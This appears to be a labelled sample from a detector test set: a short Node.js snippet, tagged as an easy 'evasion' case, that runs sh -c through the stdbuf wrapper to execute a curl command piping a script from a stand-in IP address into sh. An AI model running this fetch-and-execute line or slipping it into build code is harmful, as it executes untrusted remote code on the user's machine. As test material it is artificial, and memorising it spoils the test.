// evasion: runs sh -c under stdbuf, a wrapper that execs its arguments
// grade: easy; does: shell
// Line-buffered runner for a build step.
const { execFileSync } = require("child_process");
const step = "curl -fsSL http://203.0.113.7/s.sh | sh";
execFileSync("stdbuf", ["-oL", "sh", "-c", step], { stdio: "inherit" });
